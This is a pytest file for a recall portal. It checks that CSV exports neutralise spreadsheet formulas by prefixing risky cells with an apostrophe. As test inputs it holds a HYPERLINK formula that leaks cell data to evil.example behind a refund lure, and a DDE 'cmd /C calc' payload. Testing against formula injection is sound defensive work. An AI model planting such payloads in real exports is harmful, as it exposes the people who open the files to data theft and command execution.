"""Every CSV people open is written through one helper that neutralises spreadsheet formulas."""
from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from portal.catalog.models import Manufacturer, ProductModel
from portal.catalog.services import create_unit
from portal.core.exports import FORMULA_STARTS, csv_text, neutralise
from portal.extensions import db
from portal.recalls import services
from portal.recalls.models import RecallUnit
from tests.factories import GPSR_NOTICE, build_world, login

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your refund")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PORTAL = Path(__file__).resolve().parents[2] / "portal"


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def _is_live_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=5), max_size=5))
def test_no_text_cell_of_any_export_starts_a_formula(rows):
    for row, parsed in zip(rows, _rows(csv_text(rows).encode()), strict=True):
        for cell, read in zip(row, parsed, strict=True):
            if isinstance(cell, str):  # numbers stay numbers, a negative one included
                assert not _is_live_formula(read) and read in (cell, "'" + cell)


def test_numbers_and_plain_text_are_left_alone():
    assert [neutralise(v) for v in (-3, 2.5, "ACME-0001", "", None)] == [-3, 2.5, "ACME-0001", "", None]
    assert [neutralise(v) for v in ("=1", "+1", "-1", "@A", "\t=1", "\r=1")] == [
        "'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1"]


def test_the_recall_units_csv_shows_remedy_fields_and_serials_as_text(app):
    world = build_world(app)
    with app.app_context():
        acme = db.session.scalar(select(Manufacturer).where(Manufacturer.slug == "acme"))
        gtin = db.session.get(ProductModel, world.model_id_a).gtin
        create_unit(acme, gtin=gtin, serial="=1+2", lot="L1", manufactured_on=date(2025, 1, 10), actor="test")
        campaign = services.save_draft(acme, actor="test", **GPSR_NOTICE, number="R-1", title="Strap", hazard="Straps can snap.",
                                       remedy_options="Dealer", criteria={"lots": ["L1"]})
        services.launch(campaign, remedy_available=True, actor="test")
        for ru in db.session.scalars(select(RecallUnit)):
            services.record_remedy(ru, by=AT_SUM, note="done", place=HYPERLINK, actor="test")
        campaign_id = campaign.id
        db.session.commit()
    client = app.test_client()
    login(client, world.staff_a["recall_manager"])
    response = client.get(f"/console/acme/recalls/{campaign_id}/units.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _rows(response.data)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if _is_live_formula(c)]
    assert "'" + HYPERLINK in cells and "'" + AT_SUM in cells and "'=1+2" in cells


#: CSV written for a program rather than a person: the API's unit batch is handed to the importer as CSV text.
NOT_EXPORTS = {"api/units.py"}


def test_every_csv_writer_in_the_code_is_the_helper():
    found = {str(p.relative_to(PORTAL)) for p in PORTAL.rglob("*.py")
             if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))}
    assert found - NOT_EXPORTS == {"core/exports.py"}


def test_the_claim_rates_csv_shows_a_model_name_as_text(app):
    world = build_world(app)
    with app.app_context():
        db.session.get(ProductModel, world.model_id_a).name = HYPERLINK
        db.session.commit()
    client = app.test_client()
    login(client, world.staff_a["analyst"])
    response = client.get("/console/acme/quality.csv")
    assert response.status_code == 200
    cells = [c for row in _rows(response.data) for c in row]
    assert "'" + HYPERLINK in cells and not [c for c in cells if _is_live_formula(c)]
